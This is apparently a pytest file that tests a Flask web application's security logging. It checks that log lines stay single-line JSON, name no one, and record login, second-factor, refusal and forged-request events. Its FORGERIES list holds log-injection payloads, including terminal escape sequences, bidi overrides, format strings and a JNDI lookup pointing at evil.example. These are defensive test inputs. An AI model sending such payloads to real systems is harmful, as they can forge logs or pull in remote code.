"""The log: one line an event, whatever visitors send; what concerns safety is noted; nothing in it names anybody."""

import json
import logging
import re
from collections.abc import Callable
from typing import Any

import pytest
import structlog
from flask import Flask
from sqlmodel import Session

from directory.accounts.permissions import Permission
from directory.app import create_app
from directory.config import Settings
from directory.core.db import Database
from directory.web.auth import requires
from directory.web.events import Event
from tests.accounts.authenticator import Authenticator
from tests.accounts.second import add_passkey, code, half, passkey_log_in, wrong_code
from tests.accounts.visits import link_in, log_in, mails
from tests.clients import Visitor, forms_of
from tests.docs import ROOT
from tests.factories import PASSWORD, Make
from tests.logs import listening

GREEN = "three calm green mornings"
ADA = "ada@patients.example"
#: A line of its own, a colour, a bell, a title of the window, marks that end lines in other tools, text turned about.
FORGERIES = [
    'x\r\n{"event": "security.proved", "user": 1}',
    "x\nlevel=fatal msg=planted",
    "\x1b[2J\x1b[1;31mplanted",
    "\x1b]0;planted\x07",
    "x\u2028planted\u2029planted",
    "\u202edetnalp\u202c",
    "x\x00planted\x7f\x85",
    "%s%n%(message)s{event}{0.__class__}",
    "${jndi:ldap://evil.example/planted}",
]


def lines(text: str) -> list[dict[str, Any]]:
    """Every line as what it says; each must be JSON on a line of its own, of visible ASCII alone."""
    assert re.fullmatch(r"[\x20-\x7e\n]*", text), "something unseen stands in the log"
    return [json.loads(line) for line in text.splitlines()]


def noted(text: str) -> list[tuple[str, Any]]:
    """The security events, each with whose account it is about."""
    return [(line["event"], line["user"]) for line in lines(text) if line["event"].startswith("security.")]


class TestInjection:
    @pytest.mark.parametrize("forgery", FORGERIES, ids=range(len(FORGERIES)))
    def test_nothing_that_visitors_send_makes_a_line_or_stands_in_one(
        self, app: Flask, visitor: Visitor, log_lines: Callable[[], str], forgery: str
    ) -> None:
        """In headers, paths, queries, addresses and names. Seen to fail with the path in place of the rule."""
        raw = forgery.encode("utf-8", "surrogatepass").decode("latin-1")
        for name in ("HTTP_USER_AGENT", "HTTP_REFERER", "HTTP_X_REQUEST_ID", "HTTP_X_FORWARDED_FOR", "HTTP_ACCEPT_LANGUAGE"):
            app.test_client().get("/", environ_overrides={name: raw})
        visitor.get("/" + forgery.replace("?", ""))
        visitor.get("/p/x", query_string={"q": forgery})
        log_in(visitor, forgery, forgery)
        visitor.send("/register", email=forgery, display_name=forgery, password=forgery, birth_year=forgery)
        said = lines(log_lines())
        assert len([line for line in said if line["event"] == "request"]) >= 9
        assert "planted" not in log_lines()
        assert "detnalp" not in log_lines()
        assert not [line for line in said if line.get("user") == 1]

    @pytest.mark.parametrize("forgery", FORGERIES, ids=range(len(FORGERIES)))
    def test_even_what_is_written_on_purpose_stays_one_line(self, app: Flask, log_lines: Callable[[], str], forgery: str) -> None:
        """As a value, as a message of a library, in an error. Seen to fail with the console's form in production."""
        structlog.get_logger("x").warning("planted", value=forgery)
        logging.getLogger("library").warning("planted %s", forgery)
        try:
            raise ValueError(forgery)
        except ValueError:
            structlog.get_logger("x").exception("planted")
        found = lines(log_lines())
        assert len(found) == 3
        assert found[0]["value"] == forgery
        assert forgery in found[1]["event"]
        assert "ValueError" in found[2]["exception"]

    def test_every_line_says_when_what_how_grave_and_in_which_request(self, visitor: Visitor, log_lines: Callable[[], str]) -> None:
        """Moments in UTC. Seen to fail with local time."""
        answer = visitor.get("/healthz?x=1")
        visitor.get("/")
        (line,) = [one for one in lines(log_lines()) if one["event"] == "request" and one["route"] == "/"]
        assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d+Z", line["timestamp"])
        assert (line["level"], line["logger"], line["method"], line["status"]) == ("info", "web", "GET", 200)
        assert re.fullmatch(r"[0-9a-f]{16}", line["request_id"])
        assert answer.headers["X-Request-Id"] != line["request_id"]


class TestEvents:
    def test_log_ins_are_noted_right_and_wrong_with_the_account_and_the_factor(
        self, visitor: Visitor, make: Make, log_lines: Callable[[], str]
    ) -> None:
        """Never the address. Seen to fail with each of the two notes taken out of `verified`."""
        user = make.user(email=ADA)
        log_in(visitor, ADA, "wrong words here")
        log_in(visitor, "nobody@patients.example", "wrong words here")
        log_in(visitor, ADA)
        assert noted(log_lines()) == [("security.not_proved", user.id), ("security.not_proved", None), ("security.proved", user.id)]
        found = [line for line in lines(log_lines()) if line["event"].endswith("proved")]
        assert {line["factor"] for line in found} == {"password"}
        assert [line["level"] for line in found] == ["warning", "warning", "info"]
        assert "patients.example" not in log_lines()

    def test_a_changed_password_and_a_log_out_are_noted(self, visitor: Visitor, make: Make, log_lines: Callable[[], str]) -> None:
        """Seen to fail with each note taken out."""
        user = make.user(email=ADA)
        log_in(visitor, ADA)
        visitor.send("/account/password", password=PASSWORD, new_password=GREEN)
        visitor.send("/logout")
        assert noted(log_lines()) == [
            ("security.proved", user.id),
            ("security.proved", user.id),
            ("security.factor_changed", user.id),
            ("security.logged_out", user.id),
        ]

    def test_second_factors_are_noted_right_and_wrong(self, app: Flask, make: Make, log_lines: Callable[[], str]) -> None:
        """Codes, passkeys, and what is added and removed. Seen to fail with each note taken out of `web/factors.py`."""
        ada, bo = make.app(make.user()), make.user()
        visitor = half(app, ada)
        visitor.send("/login/second", code=wrong_code())
        visitor.send("/login/second", code=code())
        device = add_passkey(Visitor(app).sign_in(bo))
        passkey_log_in(Visitor(app), device)
        stranger = Authenticator()
        stranger.make({"user": {"id": "eA"}, "challenge": "eA"})
        passkey_log_in(Visitor(app), stranger)
        found = [
            (line["event"], line["user"], line["factor"])
            for line in lines(log_lines())
            if line["event"].startswith("security.") and line.get("factor") not in {None, "password"}
        ]
        assert found == [
            ("security.not_proved", ada.id, "code"),
            ("security.proved", ada.id, "totp"),
            ("security.factor_changed", bo.id, "passkey_added"),
            ("security.proved", bo.id, "passkey"),
            ("security.not_proved", None, "passkey"),
        ]

    def test_a_password_set_by_a_mailed_link_is_noted(
        self, app: Flask, visitor: Visitor, session: Session, make: Make, log_lines: Callable[[], str]
    ) -> None:
        """Seen to fail with the note taken out."""
        user = make.user(email=ADA)
        visitor.send("/reset", email=ADA)
        visitor.send(link_in(mails(app, session)[0]), new_password=GREEN)
        assert ("security.factor_changed", user.id) in noted(log_lines())

    def test_asking_for_what_is_not_theirs_is_noted(self, visitor: Visitor, make: Make, log_lines: Callable[[], str]) -> None:
        """A staff page, somebody else's comment. Seen to fail without the status 404 in `watch`."""
        comment, user = make.comment(profile=make.profile()), make.user()
        visitor.sign_in(user)
        visitor.get("/moderation")
        visitor.get(f"/comments/{comment.id}/edit")
        assert noted(log_lines()) == [("security.refused", user.id)] * 2

    def test_who_is_signed_out_and_lost_is_not(self, visitor: Visitor, log_lines: Callable[[], str]) -> None:
        """A page that is not there is no attack. Seen to fail with every 404 noted."""
        visitor.get("/p/nobody")
        visitor.get("/nothing-here")
        assert noted(log_lines()) == []

    def test_too_many_tries_are_noted(self, visitor: Visitor, log_lines: Callable[[], str]) -> None:
        """Seen to fail without the status 429 in `watch`."""
        for _turn in range(6):
            log_in(visitor, ADA, "wrong words here")
        assert noted(log_lines())[-1] == ("security.limited", None)

    @pytest.mark.parametrize(
        ("more", "event"),
        [
            ({}, Event.FORGED),
            ({"headers": {"Origin": "https://evil.example"}}, Event.OTHER_SITE),
            ({"headers": {"Sec-Fetch-Site": "cross-site"}}, Event.OTHER_SITE),
            ({"headers": {"Host": "evil.example"}}, Event.OTHER_HOST),
            ({"data": {"email": "x" * 300_000}}, Event.MALFORMED),
        ],
        ids=["no token", "another origin", "another site", "another host", "too large"],
    )
    def test_ways_round_are_noted(self, app: Flask, log_lines: Callable[[], str], more: dict[str, Any], event: Event) -> None:
        """One line each. Seen to fail with each note taken out."""
        app.test_client().post("/login", **more)
        assert noted(log_lines()) == [(event.value, None)]

    def test_a_method_that_no_page_has_is_noted(self, app: Flask, log_lines: Callable[[], str]) -> None:
        """Seen to fail without 405 in MALFORMED."""
        app.test_client().open("/", method="PUT", headers={"Origin": "http://localhost"})
        assert noted(log_lines()) == [("security.malformed", None)]

    def test_every_event_stands_in_the_document(self) -> None:
        """Seen to fail with a row taken out."""
        text = (ROOT / "docs" / "security.md").read_text("utf-8")
        assert [event.value for event in Event if f"| `{event.value}` |" not in text] == []

    def test_every_event_is_tried_here(self) -> None:
        """Seen to fail with an event that nothing writes."""
        here = (ROOT / "tests" / "attacks" / "test_logs.py").read_text("utf-8")
        assert [event.name for event in Event if f'"{event.value}"' not in here and f"Event.{event.name}" not in here] == []


def test_what_breaks_is_noted_without_the_path(schema: Database, database: Database, settings: Settings) -> None:
    """A path may be the secret of a mailed link. Seen to fail with Flask's own line, which names it."""
    site = create_app(settings, database=schema)

    @site.get("/broken/<token>")
    @requires(Permission.PUBLIC)
    def broken(token: str) -> str:
        raise RuntimeError("a mistake of ours")

    with listening() as said:
        assert site.test_client().get("/broken/geheimnis").status_code == 500
    (line,) = [one for one in lines(said()) if one["event"] == "request.failed"]
    assert (line["route"], line["level"]) == ("/broken/<token>", "error")
    assert "a mistake of ours" in line["exception"]
    assert "geheimnis" not in said()


def test_the_token_against_forged_requests_is_never_written(visitor: Visitor, log_lines: Callable[[], str]) -> None:
    """Seen to fail with the form written into the event."""
    token = forms_of(visitor.get("/login"))[-1].values["csrf_token"][0]
    visitor.post("/login", {"csrf_token": token + "x", "email": ADA})
    assert token[:20] not in log_lines()
